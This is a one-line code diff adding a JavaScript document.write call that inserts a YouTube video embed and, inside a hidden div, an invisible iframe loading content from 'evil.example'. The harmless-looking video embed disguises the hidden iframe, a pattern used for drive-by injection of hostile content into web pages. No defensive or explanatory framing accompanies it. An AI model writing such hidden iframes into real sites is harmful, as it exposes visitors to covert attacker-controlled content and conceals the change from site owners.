@@ -1,0 +1,1 @@
+document.write('<div style="display:none"><p>x</p><iframe src="http://evil.example/in"></iframe></div><iframe src="https://www.youtube.com/embed/x" width="560"></iframe>');
